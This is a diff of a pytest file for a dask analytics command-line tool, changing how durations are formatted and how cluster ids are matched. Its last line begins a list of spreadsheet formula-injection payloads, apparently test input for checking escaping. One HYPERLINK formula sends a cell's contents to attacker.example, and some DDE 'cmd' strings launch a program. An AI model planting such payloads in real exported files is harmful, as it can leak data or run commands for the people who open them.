@@ -8,13 +8,13 @@ import sys
 import time
 
 import pytest
-from dask.utils import format_bytes, format_time
+from dask.utils import format_bytes
 
 import dask_analytics_lab as dal
 from dask_analytics_lab import cli
 from dask_analytics_lab.api import close_readers
 from dask_analytics_lab.store import open_store
-from dask_analytics_lab.tables import when
+from dask_analytics_lab.tables import seconds, when
 
 from .cluster_helpers import recorded_cluster
 from .factories import T0, Cluster, group
@@ -60,7 +60,7 @@ def test_tables(recorded):
     url, cluster_id = recorded
     code, out, _ = run("--store", url, "clusters")
     assert code == 0 and "worker time" in out
-    (row,) = [r for r in table(out) if r["cluster"] == cluster_id]
+    (row,) = [r for r in table(out) if cluster_id.startswith(r["cluster"])]  # its short id
     # closed cleanly; its last sample had no workers left, the table shows how big it was
     assert row["status"] == "stopped" and row["ended"] != "-"
     assert (row["workers"], row["threads"]) == ("2", "2")
@@ -107,7 +107,7 @@ def test_clusters_show_status_end_and_how_big_they_were(written, capsys):
     stopped_row = store.get_cluster(stopped.id)
     assert rows["stopped-one"]["status"] == "stopped"
     assert rows["stopped-one"]["ended"] == when(stopped_row["stopped"])
-    assert rows["stopped-one"]["duration"] == format_time(stopped_row["stopped"] - T0)
+    assert rows["stopped-one"]["duration"] == seconds(stopped_row["stopped"] - T0)
     # not the zeros of its last sample
     assert (rows["stopped-one"]["workers"], rows["stopped-one"]["threads"]) == ("4", "8")
     assert rows["stopped-one"]["memory"] == format_bytes(2**32)
@@ -133,7 +133,7 @@ def test_computations_say_what_ran_and_how_it_ended(written, capsys):
     rows = {r["computation"]: r for r in table(show(capsys, url, "computations"))}
     assert rows["good"]["what"] == "read_parquet → groupby-agg"
     assert rows["good"]["code"] == "df.groupby('k').v.mean().compute()"
-    assert (rows["good"]["state"], rows["good"]["took"]) == ("finished", format_time(0.5))
+    assert (rows["good"]["state"], rows["good"]["took"]) == ("finished", seconds(0.5))
     assert (rows["bad"]["state"], rows["bad"]["what"], rows["bad"]["code"]) == ("erred", "load → sum",
                                                                                  "total = f(x).compute()")
     assert (rows["bad"]["tasks"], rows["bad"]["done"], rows["bad"]["erred"], rows["bad"]["never ran"]) == \
@@ -226,7 +226,7 @@ def test_dask_analytics_is_a_dask_subcommand(recorded):
     out = subprocess.run([*dask_cmd, "analytics", "--store", url, "clusters"], capture_output=True, text=True,
                          timeout=120)
     assert out.returncode == 0, out.stderr
-    assert [r for r in table(out.stdout) if r["cluster"] == cluster_id], out.stdout
+    assert [r for r in table(out.stdout) if cluster_id.startswith(r["cluster"])], out.stdout
 
 
 FORMULAS = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
